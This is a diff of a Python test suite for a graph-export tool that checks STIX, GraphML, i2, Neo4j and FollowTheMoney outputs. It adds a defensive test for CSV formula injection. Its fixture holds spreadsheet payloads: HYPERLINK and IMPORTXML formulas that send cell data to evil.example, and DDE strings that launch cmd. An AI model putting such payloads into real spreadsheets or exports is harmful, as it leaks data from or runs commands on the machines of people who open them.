@@ -57,11 +57,19 @@ def test_ftm_every_entity_parses_and_every_reference_resolves(view: ExportView) 
         1 for p in entities.values() if p.id.endswith("-holder"))
 
 
+# The two deliberate deviations from the validator's strict mode (docs/exports.md, STIX 2.1): ids are UUIDv5
+# of compoundgraph ids (103), and relationship types outside STIX's suggestions (202).
+STIX_DEVIATIONS = ["uuid-check", "relationship-types"]
+
+
 def test_stix_bundle_passes_the_validator(view: ExportView) -> None:
     text = _one(render(view, "stix")).decode("utf-8")
     result = validate_string(text, ValidationOptions(version="2.1"))
     assert result.is_valid, [str(e) for e in result.errors]
     assert not result.errors
+    strict = validate_string(text, ValidationOptions(version="2.1", strict=True, disabled=STIX_DEVIATIONS,
+                                                     enforce_refs=True))
+    assert strict.is_valid, [str(e) for e in strict.errors]
     bundle = stix2.parse(text, allow_custom=True)
     types = {o["type"] for o in bundle.objects}
     assert {"identity", "threat-actor", "location", "infrastructure", "indicator", "relationship", "report",
@@ -85,9 +93,11 @@ def test_graphml_reads_in_networkx_and_igraph(view: ExportView, tmp_path: Path) 
     mentioned = len(view.mentioned_sources())
     assert g.number_of_nodes() == len(view.entities) + mentioned
     assert g.number_of_edges() == len(view.claims)
-    assert g.nodes["compound-golden-lotus"]["label"] == "Compound"
+    assert g.nodes["compound-golden-lotus"]["entity_type"] == "Compound"
+    assert g.nodes["compound-golden-lotus"]["label"] == "Golden Lotus Park"  # what Gephi and yEd show
     assert g.nodes["compound-golden-lotus"]["p_lat"] == pytest.approx(10.63)
     edge = next(d for _, _, d in g.edges(data=True) if d["type"] == "PROTECTS")
+    assert edge["label"] == "PROTECTS"
     assert edge["grade"] == "B2" and edge["valid_from"] == "2021-01-01" and edge["valid_to"] == "2024-03-01"
     path = tmp_path / "g.graphml"
     path.write_bytes(data)
@@ -95,6 +105,21 @@ def test_graphml_reads_in_networkx_and_igraph(view: ExportView, tmp_path: Path) 
     assert ig.vcount() == g.number_of_nodes() and ig.ecount() == g.number_of_edges()
     assert "grade" in ig.es.attributes() and "label" in ig.vs.attributes()
     assert set(ig.vs["id"]) >= set(view.entities)
+
+
+def test_graphml_key_ids_are_unique_and_every_data_names_a_key_of_its_scope(view: ExportView) -> None:
+    root = ET.fromstring(_one(render(view, "graphml")))
+    ns = {"g": "http://graphml.graphdrawing.org/xmlns"}
+    keys = root.findall("g:key", ns)
+    ids = [k.get("id") for k in keys]
+    assert len(ids) == len(set(ids)), sorted({i for i in ids if ids.count(i) > 1})
+    scope = {k.get("id"): k.get("for") for k in keys}
+    names = {(k.get("for"), k.get("attr.name")) for k in keys}
+    assert ("node", "label") in names and ("edge", "label") in names and ("node", "sources") in names
+    for kind in ("node", "edge"):
+        for element in root.iter(f"{{{ns['g']}}}{kind}"):
+            for data in element.findall("g:data", ns):
+                assert scope[data.get("key")] == kind, (element.get("id"), data.get("key"))
 
 
 def test_gexf_has_a_timeline_and_reads_back(view: ExportView) -> None:
@@ -128,6 +153,9 @@ def test_i2_tables_have_grade_columns(view: ExportView) -> None:
     directs = next(row for row in links if row["Link Type"] == "DIRECTS")
     assert (directs["Grade 1"], directs["Grade 2"], directs["Grade 3"]) == ("B", "2", "H1")
     assert directs["UK 3x5x2"] == "1CP" and directs["Europol 4x4"] == "B2"
+    transfers = sorted((row["Date"], row["Time"]) for row in links if row["Link Type"] == "TRANSFERRED")
+    assert transfers == [("2024-02-01", "10:00:00"), ("2024-02-02", "09:30:00"), ("2024-02-03", "12:00:00")]
+    assert all(row["Time"] == "" for row in links if row["Link Type"] != "TRANSFERRED")
 
 
 def test_cytoscape_json_loads_in_networkx(view: ExportView) -> None:
@@ -168,7 +196,7 @@ def test_neo4j_admin_headers_are_typed_and_consistent(view: ExportView) -> None:
                 assert r[0] in node_ids and r[1] in node_ids
     rels = list(csv.reader(io.StringIO(files["rels_TRANSFERRED.csv"].decode())))
     assert "grade_r:long" in rels[0] and "log_index:long" in rels[0]
-    assert b"neo4j-admin database import full" in files["import.sh"]
+    assert b"neo4j-admin}\" database import full \"$DATABASE\"" in files["import.sh"]
 
 
 def test_export_bytes_for_the_api(world: GraphStore) -> None:
@@ -183,3 +211,103 @@ def test_export_bytes_for_the_api(world: GraphStore) -> None:
         links = z.read("i2_links.csv").decode("utf-8-sig")
     # header, the HOLDS claim between the two ids, and Tan's MENTIONED_IN claim (its source comes along)
     assert "HOLDS" in links and "MENTIONED_IN" in links and links.count("\n") == 3
+
+
+HOSTILE = {
+    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "alias": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "quote": "-2+3+cmd|' /C calc'!A0",
+    "title": "\t=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A2),\"//a\")",
+    "handle": "+1 555 0100",
+    "carriage": "\r=1+1",
+}
+
+
+def _hostile_view(world: GraphStore, profile: str) -> ExportView:
+    view = build_view(world, profile)
+    lotus = view.entities["compound-golden-lotus"]
+    lotus.name = HOSTILE["name"]
+    lotus.aliases = [HOSTILE["alias"], *lotus.aliases]
+    lotus.properties = {**lotus.properties, "lon": -3.5, "status": HOSTILE["carriage"]}
+    view.claims[0].quote = HOSTILE["quote"]
+    source = view.sources[view.claims[0].source]
+    source.title = HOSTILE["title"]
+    source.publisher = HOSTILE["handle"]
+    return view
+
+
+@pytest.mark.parametrize("fmt", ["csv", "i2"])
+def test_spreadsheet_cells_never_start_a_formula(world: GraphStore, fmt: str) -> None:
+    view = _hostile_view(world, "internal")
+    files = render(view, fmt)
+    seen: list[str] = []
+    for name, data in files.items():
+        assert data.startswith("\ufeff".encode()), f"{name} lacks the UTF-8 BOM Excel needs"
+        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
+            for cell in row:
+                seen.append(cell)
+                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                    float(cell)  # only a number may start with a sign (a negative longitude)
+    for value in (HOSTILE["name"], HOSTILE["quote"], HOSTILE["title"]):
+        assert "'" + value in seen, f"{value!r} was not written as text"
+    if fmt == "i2":
+        assert "-3.5" in seen  # a number stays a number
+    text = b"".join(files.values()).decode("utf-8-sig")
+    assert "ဂျိတ်မြစ်" in text and "金莲园区" in text  # Burmese and Chinese names travel as UTF-8
+
+
+def test_json_formats_carry_values_unchanged(world: GraphStore) -> None:
+    view = _hostile_view(world, "internal")
+    doc = json.loads(_one(render(view, "cytoscape")))
+    lotus = next(n["data"] for n in doc["elements"]["nodes"] if n["data"]["id"] == "compound-golden-lotus")
+    assert lotus["name"] == HOSTILE["name"]
+    records = [json.loads(line) for line in _one(render(view, "jsonl")).splitlines()]
+    assert any(r.get("name") == HOSTILE["name"] for r in records)
+    assert any(r.get("quote") == HOSTILE["quote"] for r in records)
+
+
+def test_stix_keeps_claim_dates_properties_and_full_transfer_times(world: GraphStore) -> None:
+    view = build_view(world, "internal")
+    transfer = next(c for c in view.claims if c.type == "TRANSFERRED")
+    transfer.valid_from = transfer.properties["timestamp"][:10]  # what a chain ingest records as validity
+    transfer.first_seen, transfer.last_seen = "2024-02-05", "2024-03-01"
+    transfer.properties = {**transfer.properties, "chain": "tron", "confirmed": True}
+    source = view.sources[transfer.source]
+    source.sha256 = "ab" * 32
+    tip = next(s for s in view.sources.values() if not s.url)
+    tip.url = "https://example.org/tip"  # a URL with no document hash
+    text = _one(render(view, "stix")).decode("utf-8")
+    strict = validate_string(text, ValidationOptions(version="2.1", strict=True, disabled=STIX_DEVIATIONS))
+    assert strict.is_valid, [str(e) for e in strict.errors]
+    objects = {o["id"]: o for o in json.loads(text)["objects"]}
+    rel = next(o for o in objects.values() if o["type"] == "relationship"
+               and next(iter(o["extensions"].values())).get("compoundgraph_id") == transfer.id)
+    ext = next(iter(rel["extensions"].values()))
+    assert stix2.utils.parse_into_datetime(rel["start_time"]) == stix2.utils.parse_into_datetime(
+        transfer.properties["timestamp"])  # to the second, not midnight
+    assert (ext["first_seen"], ext["last_seen"]) == ("2024-02-05", "2024-03-01")
+    assert ext["properties"] == {"chain": "tron", "confirmed": "true"}
+    reports = [o for o in objects.values() if o["type"] == "report" and o.get("external_references")]
+    pinned = next(o for o in reports if o["external_references"][0]["external_id"] == source.id)
+    assert pinned["external_references"][0]["hashes"] == {"SHA-256": "ab" * 32}
+    unpinned = next(o for o in reports if o["external_references"][0]["external_id"] == tip.id)
+    assert "url" not in unpinned["external_references"][0]
+    assert next(iter(unpinned["extensions"].values()))["url"] == "https://example.org/tip"
+    accounts = [o for o in objects.values() if o["type"] == "user-account"]
+    assert all(o.get("account_type") in (None, "facebook") for o in accounts)
+    assert {next(iter(o["extensions"].values()))["platform"] for o in accounts} >= {"Telegram", "phone"}
+
+
+def test_ftm_payments_keep_transfer_times_to_the_second(world: GraphStore) -> None:
+    view = build_view(world, "partner")
+    transfers = [c for c in view.claims if c.type == "TRANSFERRED"]
+    transfers[0].properties = {**transfers[0].properties, "timestamp": "2024-02-01T10:00:07Z"}
+    transfers[1].properties = {**transfers[1].properties, "timestamp": "2024-02-02T16:30:59+07:00"}
+    payments = {}
+    for line in _one(render(view, "ftm")).splitlines():
+        proxy = ValueEntity.from_dict(json.loads(line), cleaned=False)  # FtM's own cleaning, as Aleph does
+        if proxy.schema.name == "Payment":
+            payments[proxy.id] = proxy.get("date")
+    assert payments[transfers[0].id] == ["2024-02-01T10:00:07"]
+    assert payments[transfers[1].id] == ["2024-02-02T09:30:59"]  # in UTC
+    assert all(len(d[0]) == len("2024-02-01T10:00:07") for d in payments.values())
